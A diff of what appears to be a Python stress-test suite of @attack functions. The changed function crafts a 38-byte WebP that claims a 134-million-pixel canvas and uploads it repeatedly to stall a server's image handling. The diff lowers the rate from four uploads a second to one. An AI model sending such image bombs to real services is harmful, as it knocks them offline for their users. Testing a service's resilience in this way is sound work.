@@ -16,14 +16,15 @@ def noise_png(width: int, height: int) -> bytes:
     return _saved(_noise(width, height), "PNG", compress_level=0)
 
 
-@attack("4 requests a second of 38 bytes")
+@attack("1 request a second of 38 bytes")
 async def webp_with_a_huge_canvas(attacker: Attacker) -> None:
-    """Uploads a WebP with a canvas of 134 million pixels and none of them. It stalled everyone for a second."""
-    sides = (16_384 - 1).to_bytes(3, "little") + (8_192 - 1).to_bytes(3, "little")
-    chunks = b"VP8X" + struct.pack("<I", 10) + bytes(4) + sides + b"VP8L" + struct.pack("<I", 0)
-    body = b"RIFF" + struct.pack("<I", 4 + len(chunks)) + b"WEBP" + chunks
+    """Uploads a WebP of one colour, with a canvas of 134 million pixels. It stalled everyone for a second."""
+    sides = (16_383 - 1) | (8_192 - 1) << 14
+    pixels = b"\x2f" + sides.to_bytes(4, "little") + b"\x88\x88\x08" + bytes(10)
+    chunk = b"VP8L" + struct.pack("<I", len(pixels)) + pixels
+    body = b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk
     await attacker.begin()
-    await attacker.at_rate(4, lambda _: _upload(attacker, body, "image/webp"))
+    await attacker.at_rate(1, lambda _: _upload(attacker, body, "image/webp"))
 
 
 @attack("1 request every 2 seconds of 4 MB")
